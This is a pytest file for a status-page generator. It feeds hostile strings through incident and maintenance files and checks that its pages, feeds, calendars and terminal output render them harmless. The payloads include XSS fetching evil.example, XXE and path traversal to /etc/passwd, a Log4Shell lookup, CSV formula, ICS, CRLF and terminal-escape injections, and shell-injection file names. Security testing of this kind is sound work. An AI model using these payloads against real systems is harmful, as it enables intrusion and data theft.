"""Hostile text in every field of incidents and windows, through files, in every output.

Each payload stands in a file of its own of either kind, in title, text, links and pictures at once;
names of components hold some too. What may hold no text at all (ids, zones, rules, file names) is
told, and what is told does nothing to a terminal or a log.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import feedparser
import pytest
from icalendar import Calendar
from markdown_it import MarkdownIt
from playwright.sync_api import Browser

from statusgen.base.clock import format_instant, parse_instant
from statusgen.publish.build import BuildOptions, build_manifest
from statusgen.publish.manifest import Asset, Manifest
from statusgen.publish.writers import write_directory
from tests.cli.harness import Done, statusgen, write_config
from tests.doubles import published
from tests.publish.browsing import closed, opened
from tests.publish.test_hostile_text import TAGS, active_content

NOW = "2026-11-20T21:00:00Z"
RUN = "window.hacked=1;fetch(`//evil.example/`)"
LINES = [
    "\u001b]0;title\u0007\u001b[2J\u001b[31mred",
    "\u009b31mred\u202egnp.exe\u2028\u2029\u0085",
    "::set-output name=x::y\n::add-mask::secret\n##[error]x",
    "a\r\nBEGIN:VALARM\r\nACTION:EMAIL\r\nATTENDEE:mailto:x@evil.example\r\nEND:VALARM",
    "a;b,c\\n:\"d\"\tEND:VEVENT",
    "![x](../../../../etc/passwd) ![x](//evil.example/a.png) ![x](https://evil.example/a.png)",
    "![x](x.png\" onerror=\"window.hacked=1)",
    "<img src=\"../../status.yml\" onerror=window.hacked=1>",
    "=cmd|' /C calc'!A0",
    "%0d%0aSet-Cookie:x=1 \U0001f600",
    "]]> <![CDATA[ <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y;",
    "{{ config }} {% raw %} ${jndi:ldap://evil.example/a} #{7*7}",
]  # fmt: skip
PAYLOADS = [tag.format(RUN) for tag in TAGS if "\ud800" not in tag] + LINES
HOSTILE_NAMES = ["<img src=x onerror=window.hacked=1>", "::warning::x ##[error]", "]]>&<'\""]
FAULTY = {
    "zone": ("timezone: {}", "maintenance"),
    "rule": ("repeat: {}", "maintenance"),
    "id": ("id: {}", "incidents"),
    "uid": ("uid: {}", "incidents"),
    "time": ("started: {}", "incidents"),
    "impact": ("impact: {}", "incidents"),
    "component": ("affected: [{}]", "incidents"),
    "key": ("{}: x", "incidents"),
}


def quoted(text: str) -> str:
    """A double-quoted scalar of YAML; what YAML cannot hold is escaped."""
    hard = {each: f"\\U{ord(each):08x}" for each in text if each in '"\\' or not each.isprintable()}
    return f'"{"".join(hard.get(each, each) for each in text)}"'


def write(root: Path) -> None:
    monitors = "".join(
        f"  - {{id: m{number}, name: {quoted(name)}, url: https://m{number}.example/, "
        f"group: {quoted(name)}}}\n"
        for number, name in enumerate(HOSTILE_NAMES)
    )
    write_config(
        root, f"site: {{name: {quoted(HOSTILE_NAMES[0])}, url: 'https://s.example/'}}\n"
        f"monitors:\n{monitors}",
    )  # fmt: skip
    now = parse_instant(NOW)
    for folder in ("incidents", "maintenance"):
        (root / "content" / folder).mkdir(parents=True)
    for number, payload in enumerate(PAYLOADS):
        began = format_instant(now - 600 * (number + 1))
        text = payload.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
        body = f"{text}\n\n[{text}]({text}) ![{text}]({text})\n\n- <{text}>\n"
        title = f"title: {quoted(payload)}\naffected: [m{number % len(HOSTILE_NAMES)}]\n"
        (root / f"content/incidents/i{number}.md").write_text(
            f"---\n{title}impact: minor\nstarted: {began}\n---\n\n"
            f"## Investigating · {began}\n\n{body}"
        )
        ends = "repeat: weekly\ntimezone: Europe/Berlin\n" if number % 3 else ""
        (root / f"content/maintenance/w{number}.md").write_text(
            f"---\n{title}start: 2026-11-20 20:00\nend: 2026-11-20 23:00\n{ends}---\n\n{body}\n"
            f"## Scheduled · 2026-11-19T10:{number % 60:02}:00Z\n\n{body}"
        )


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    write(folder)
    return folder


@pytest.fixture(scope="module")
def manifest(root: Path) -> Manifest:
    made = build_manifest(BuildOptions(root, now=parse_instant(NOW)))
    assert [str(problem) for problem in made.problems] == []
    return made


def assets(manifest: Manifest, suffix: str) -> Iterator[tuple[str, str]]:
    for entry in manifest:
        if isinstance(entry, Asset) and entry.path.endswith(suffix):
            yield entry.path, entry.content.decode()


def test_nothing_of_it_acts_on_any_page(manifest: Manifest) -> None:
    count = 0
    for path, html in assets(manifest, ".html"):
        head, _, rest = html.partition("<style>")
        assert active_content(head + rest.partition("</style>")[2]) == [], path
        assert "\x1b" not in html
        count += 1
    assert count > 2 * len(PAYLOADS)


def test_feeds_are_well_formed_and_their_html_does_nothing(manifest: Manifest) -> None:
    entries = 0
    feeds = [*assets(manifest, ".rss"), *assets(manifest, ".atom")]
    for path, xml in [*assets(manifest, ".xml"), *feeds]:
        ElementTree.fromstring(xml)
        if not path.endswith(("rss.xml", "atom.xml", ".rss", ".atom")):
            continue
        parsed = feedparser.parse(xml, sanitize_html=False)
        assert not parsed.bozo, path
        for item in parsed.entries:
            entries += 1
            html = item.content[0].value if "content" in item else item.description
            assert active_content(f"<!doctype html><title>x</title><body>{html}") == [], path
            assert item.link.startswith("https://s.example/")
    assert entries > 2 * len(PAYLOADS)


def test_a_calendar_holds_the_windows_and_nothing_else(manifest: Manifest) -> None:
    calendars = list(assets(manifest, ".ics"))
    assert calendars
    for path, text in calendars:
        assert all(len(line.encode()) <= 75 for line in text.split("\r\n")), path
        assert not re.search(r"[^\t\r\n -\x7e\x80-\U0010ffff]|\r(?!\n)|(?<!\r)\n", text), path
        kinds = {part.name for part in Calendar.from_ical(text).walk()}
        assert kinds <= {"VCALENDAR", "VEVENT", "VTIMEZONE", "STANDARD", "DAYLIGHT"}, path
        for event in Calendar.from_ical(text).walk("VEVENT"):
            assert "ATTENDEE" not in event
            assert re.fullmatch(r"https://s\.example/maintenance/w\d+/", str(event["URL"]))
    whole = Calendar.from_ical(dict(calendars)["maintenance.ics"])
    assert len(whole.walk("VEVENT")) == len(PAYLOADS)


def test_json_and_text_are_what_they_should_be(manifest: Manifest) -> None:
    for _, text in assets(manifest, ".json"):
        json.loads(text)
    plain = [*assets(manifest, ".txt"), *assets(manifest, ".md"), *assets(manifest, ".svg")]
    for path, text in plain:
        assert harmless(text), path
    for path, text in assets(manifest, ".svg"):
        ElementTree.fromstring(text)
        found = active_content(f"<!doctype html><title>x</title><body>{text}")
        assert [each for each in found if " style=" not in each] == [], path  # styles are ours
    for path, text in assets(manifest, ".md"):
        html = MarkdownIt().render(text)  # as GitHub shows it, which cleans it once more
        assert active_content(f"<!doctype html><title>x</title><body>{html}") == [], path


def test_every_kind_of_file_is_looked_at_here(manifest: Manifest) -> None:
    looked_at = {".html", ".xml", ".rss", ".atom", ".ics", ".json", ".txt", ".md", ".svg"}
    ours = {"", ".css", ".js", ".png", ".woff2"}  # holds no text of theirs
    suffixes = {Path(entry.path).suffix for entry in manifest}
    assert suffixes <= looked_at | ours | {".nojekyll"}


def harmless(text: str) -> bool:
    """Whether a terminal and a log of GitHub's only show it."""
    odd = {
        character
        for character in text
        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        and character not in "\n\t"
    }
    commands = re.search(r"(?m)^\s*::\w|##\[", text)
    return not odd and commands is None


@pytest.mark.parametrize(
    "command",
    [
        ("status", "--now", NOW),
        ("status", "--json", "--now", NOW),
        ("incident", "list"),
        ("incident", "list", "--json"),
        ("maintenance", "list"),
        ("maintenance", "list", "--json"),
        ("validate",),
        ("build", "--engine", "none", "--now", NOW),
    ],
    ids=" ".join,
)
def test_a_terminal_only_shows_it(root: Path, command: tuple[str, ...]) -> None:
    done = statusgen(root, *command)
    assert done.code == 0, done.err
    assert harmless(done.out), done.out
    if "--json" in command:
        json.loads(done.out)
    assert harmless(done.err), done.err


@pytest.mark.parametrize("field", FAULTY)
def test_what_may_hold_no_such_text_is_told_harmlessly(tmp_path: Path, field: str) -> None:
    line, folder = FAULTY[field]
    write_config(
        tmp_path, "site: {name: T}\nmonitors: [{id: api, name: A, url: https://a.example/}]\n"
    )
    (tmp_path / "content" / folder).mkdir(parents=True)
    heads = {
        "maintenance": "title: x\nstart: 2026-11-20 20:00\nend: 2026-11-20 23:00\n",
        "incidents": "title: x\n",
    }
    for number, payload in enumerate([*LINES, *HOSTILE_NAMES, PAYLOADS[0]]):
        text = f"---\n{heads[folder]}{line.format(quoted(payload))}\n---\n\n"
        phase = "Scheduled" if folder == "maintenance" else "Investigating"
        (tmp_path / f"content/{folder}/f{number}.md").write_text(
            f"{text}## {phase} · 2026-11-19T10:00:00Z\n\nWords.\n"
        )
    done = statusgen(tmp_path, "validate")
    told(done, len(LINES) + len(HOSTILE_NAMES) + 1)


def told(done: Done, files: int) -> None:
    assert done.code == 2
    assert harmless(done.out + done.err), done.err
    assert len(set(re.findall(r"/f(\d+)\.md:\d+:\d+: ", done.err))) == files, done.err


def test_file_names_do_nothing_either(tmp_path: Path) -> None:
    write_config(
        tmp_path, "site: {name: T}\nmonitors: [{id: api, name: A, url: https://a.example/}]\n"
    )
    names = [
        "<img src=x onerror=alert(1)>", "$(touch hacked)", "a;touch hacked", "\x1b[31mred", "a\nb",
        "::error::x", "x\u2215..\u2215y", "\u202egnp", "-rf", "x" * 200, "%2e%2e%2fx",
    ]  # fmt: skip
    for folder, text in (
        ("incidents", TITLED),
        ("maintenance", "title: x\nstart: 2026-11-20 20:00\nend: 2026-11-20 23:00\n---\n"),
    ):
        place = tmp_path / "content" / folder
        place.mkdir(parents=True)
        for name in names:
            (place / f"{name}.md").write_text(f"---\n{text}")
    done = statusgen(tmp_path, "validate")
    assert done.code == 2
    assert harmless(done.out + done.err), done.err
    assert done.err.count("the file's name without .md") == 2 * len(names)
    (tmp_path / "content/incidents/\x1b[2J\n::x.md").write_text(f"---\nid: x\n{TITLED}")
    (tmp_path / "content/incidents/x.md").write_text(f"---\n{TITLED}")
    clash = statusgen(tmp_path, "validate")
    assert "has the id 'x', as content/incidents/x.md has" in clash.err
    assert harmless(clash.out + clash.err), clash.err
    built = statusgen(tmp_path, "build", "--engine", "none", "--now", NOW)
    assert harmless(built.out + built.err)
    assert not list(tmp_path.rglob("hacked"))
    for page in (tmp_path / "site").rglob("*.html"):
        assert "onerror" not in page.read_text()


TITLED = "title: x\n---\n\n## Investigating · 2026-11-19T10:00:00Z\n"


@pytest.mark.browser
@pytest.mark.parametrize("step", [4, pytest.param(1, marks=pytest.mark.long)])
def test_in_a_browser_no_script_of_it_runs_and_no_request_leaves(
    browser: Browser, manifest: Manifest, tmp_path: Path, step: int
) -> None:
    """A share of what ``test_nothing_of_it_acts_on_any_page`` reads of every payload."""
    write_directory(manifest, tmp_path)
    with published(tmp_path) as address:
        page = opened(browser, address, clock=parse_instant(NOW))
        asked: list[str] = []
        spoke: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: spoke.append(dialog.message))
        paths = [""]
        paths += [f"incidents/i{number}/" for number in range(0, len(PAYLOADS), step)]
        paths += [f"maintenance/w{number}/" for number in range(0, len(PAYLOADS), 5 * step)]
        for path in paths:
            page.goto(address + path)
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            page.mouse.move(300, 300)
            assert page.evaluate("window.hacked") is None, path
        closed(page)
    assert spoke == []
    assert [url for url in asked if not url.startswith((address, "data:"))] == []
